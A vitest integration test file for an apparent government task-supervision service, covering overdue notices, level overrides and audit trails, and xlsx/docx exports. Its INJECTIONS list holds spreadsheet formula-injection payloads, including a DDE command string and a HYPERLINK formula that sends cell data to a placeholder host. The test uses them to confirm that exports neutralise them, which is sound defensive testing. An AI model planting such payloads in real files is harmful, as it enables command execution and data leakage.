import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { sql } from "drizzle-orm";
import { strFromU8, unzipSync } from "fflate";
import { startTestServer, type TestServer } from "../support/server";
import { actor, call, insertPlan, reportOf, type Actor, type FactoryPlan } from "./supervision-factory";

const REGION = "440811";
let server: TestServer;
let plan: FactoryPlan;
let office: Actor;
let liaison: Actor;
let other: Actor;
let lead: string;
let partner: string;

const INJECTIONS = ["=cmd|'/c calc'!A1", '=HYPERLINK("http://x/?"&A1)', "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1"];

beforeAll(async () => {
  server = await startTestServer();
  server.clock.set("2018-05-10T02:00:00Z");
  lead = (await server.createUnit({ regionCode: REGION, name: "=区民政局" })).id;
  partner = (await server.createUnit({ regionCode: REGION, name: "+区财政局" })).id;
  plan = await insertPlan(server, {
    regionCode: REGION,
    title: "@惠残2018工程",
    tasks: INJECTIONS.map((content, i) => ({ content, schedule: i === 0 ? "-每季度" : "每季度", units: [lead, partner], dues: ["2018-03-31", "2018-12-31"] })),
  });
  office = await actor(server, ["office"], REGION);
  liaison = await actor(server, ["liaison"], REGION, lead);
  other = await actor(server, ["liaison"], REGION, partner);
});
afterAll(async () => server?.close());

describe("催办 and 督办单", () => {
  it("issue (ladder) → respond → close, each step audited; repetition climbs the ladder", async () => {
    const taskId = plan.tasks[0].taskId;
    const first = await call(server, office, "POST", "/api/notices", { payload: { taskId, unitId: lead, message: "请尽快报送一季度进展" } });
    expect(first.statusCode, first.body).toBe(201);
    // 31 March → 10 May: 40 days overdue → red, a 督办单 due in 5 days.
    expect(first.json()).toMatchObject({ kind: "supervision", level: "red", responseDue: "2018-05-15", state: "open" });
    const early = await call(server, office, "POST", "/api/notices", { payload: { taskId, unitId: lead, message: "提醒", asOf: "2018-04-05" } });
    expect(early.json()).toMatchObject({ kind: "supervision", level: "orange" }); // 5 days → yellow, one earlier notice → orange

    const awaiting = (await call(server, liaison, "GET", "/api/my/notices")).json().items;
    expect(awaiting.map((n: { id: string }) => n.id).sort()).toEqual([first.json().id, early.json().id].sort());
    expect((await call(server, other, "GET", `/api/notices/${first.json().id}`)).statusCode).toBe(404);
    expect((await call(server, other, "POST", `/api/notices/${first.json().id}/respond`, { payload: { response: "x" }, ifMatch: 1 })).statusCode).toBe(404);

    const responded = await call(server, liaison, "POST", `/api/notices/${first.json().id}/respond`, { payload: { response: "已于5月12日报送" }, ifMatch: 1 });
    expect(responded.statusCode, responded.body).toBe(200);
    expect(responded.json()).toMatchObject({ state: "responded", response: "已于5月12日报送", version: 2 });
    expect((await call(server, liaison, "POST", `/api/notices/${first.json().id}/close`, { ifMatch: 2 })).statusCode).toBe(403);
    const closed = await call(server, office, "POST", `/api/notices/${first.json().id}/close`, { ifMatch: 2 });
    expect(closed.json().state).toBe("closed");
    expect((await call(server, liaison, "POST", `/api/notices/${first.json().id}/respond`, { payload: { response: "再补充" }, ifMatch: 3 })).json().code).toBe("INVALID_STATE");

    const overdue = (await call(server, office, "GET", `/api/supervision/overdue?asOf=2018-05-10&unitId=${lead}`)).json();
    expect(overdue.items.find((i: { taskId: string }) => i.taskId === taskId)).toMatchObject({ priorNotices: 2, openNotices: 1 });

    const audit = (await server.ctx.db.execute(sql`SELECT action FROM audit_events WHERE object_id = ${first.json().id} ORDER BY seq`)) as unknown as { rows: { action: string }[] };
    expect(audit.rows.map((r) => r.action)).toEqual(["notice.issue", "notice.respond", "notice.close"]);
  });
});

describe("level override", () => {
  it("issues at the level the office names, with the deadline of that level, and audits the ladder's level and the reason", async () => {
    const taskId = plan.tasks[2].taskId;
    const payload = { taskId, unitId: partner, message: "第一次督办", asOf: "2018-04-05", level: "red" };
    // 5 days overdue, no earlier notice: the ladder says yellow; red needs a reason.
    const refused = await call(server, office, "POST", "/api/notices", { payload });
    expect(refused.statusCode).toBe(400);
    expect(refused.json()).toMatchObject({ code: "VALIDATION_FAILED" });
    expect(refused.json().message).toContain("理由");

    const issued = await call(server, office, "POST", "/api/notices", { payload: { ...payload, levelReason: "连续两年未报送，领导批示从严督办" } });
    expect(issued.statusCode, issued.body).toBe(201);
    expect(issued.json()).toMatchObject({ kind: "supervision", level: "red", responseDue: "2018-05-15" });
    const audit = (await server.ctx.db.execute(sql`SELECT detail FROM audit_events WHERE object_id = ${issued.json().id} AND action = 'notice.issue'`)) as unknown as { rows: { detail: Record<string, unknown> }[] };
    expect(audit.rows[0].detail).toMatchObject({ level: "red", ladderLevel: "yellow", levelReason: "连续两年未报送，领导批示从严督办" });

    // Naming the ladder's own level is no override and needs no reason.
    const same = await call(server, office, "POST", "/api/notices", { payload: { taskId: plan.tasks[3].taskId, unitId: partner, message: "提醒", asOf: "2018-04-05", level: "yellow" } });
    expect(same.statusCode, same.body).toBe(201);
    expect(same.json()).toMatchObject({ kind: "reminder", level: "yellow", responseDue: "2018-05-20" });
  });
});

describe("exports", () => {
  it("writes the task ledger with the seven columns, no formula, and every trigger neutralised", async () => {
    const report = await reportOf(server, liaison, plan.tasks[1].taskId, lead, "2018-12-31");
    await call(server, liaison, "PATCH", `/api/reports/${report.id}`, { payload: { narrative: "=1+2 已完成" }, ifMatch: report.version });
    const response = await call(server, office, "GET", `/api/plans/${plan.planId}/exports/ledger.xlsx?asOf=2018-05-10`);
    expect(response.statusCode, response.body).toBe(200);
    expect(response.headers["content-disposition"]).toMatch(/^attachment; filename="[^"]*"; filename\*=UTF-8''/);
    const files = unzipSync(new Uint8Array(response.rawPayload));
    const sheetXml = strFromU8(files["xl/worksheets/sheet1.xml"]);
    const shared = strFromU8(files["xl/sharedStrings.xml"] ?? new Uint8Array());
    for (const [name, content] of Object.entries(files)) {
      if (name.endsWith(".xml")) expect(strFromU8(content), name).not.toMatch(/<f[\s>]/);
    }
    for (const header of ["序号", "工作任务", "牵头单位", "配合单位", "时间进度", "最新进展", "状态"]) expect(shared).toContain(header);
    const texts = [...(shared + sheetXml).matchAll(/<t(?:\s[^>]*)?>([^<]*)<\/t>/g)].map((m) => m[1].replace(/&amp;/g, "&").replace(/&quot;/g, '"').replace(/&apos;/g, "'").replace(/&#x([0-9a-f]+);/gi, (_, h: string) => String.fromCharCode(parseInt(h, 16))).replace(/_x000([0-9a-f])_/gi, (_, h: string) => String.fromCharCode(parseInt(h, 16))));
    const cells = texts.filter((t) => t.length > 0);
    expect(cells.filter((t) => /^[=+\-@\t\r\n]/.test(t))).toEqual([]);
    for (const injection of INJECTIONS) expect(cells).toContain(`'${injection}`);
    expect(cells).toContain("'=区民政局");
    expect(cells).toContain("'+区财政局");
    expect(cells).toContain("'=1+2 已完成");
    // 序号 are numeric cells.
    expect(sheetXml).toMatch(/<c r="A3"[^>]*><v>1<\/v><\/c>/);
  });

  it("writes the 督办通报 as a .docx with the counts and the overdue units", async () => {
    const response = await call(server, office, "GET", `/api/supervision/exports/bulletin.docx?asOf=2018-05-10&planId=${plan.planId}`);
    expect(response.statusCode, response.body).toBe(200);
    const files = unzipSync(new Uint8Array(response.rawPayload));
    const body = strFromU8(files["word/document.xml"]);
    expect(body).toContain("督办通报");
    expect(body).toContain("共 8 项任务");
    expect(body).toMatch(/(?:'|&apos;)=区民政局/);
    const liaisonExport = await call(server, liaison, "GET", `/api/supervision/exports/bulletin.docx`);
    expect(liaisonExport.statusCode).toBe(403);
  });
});
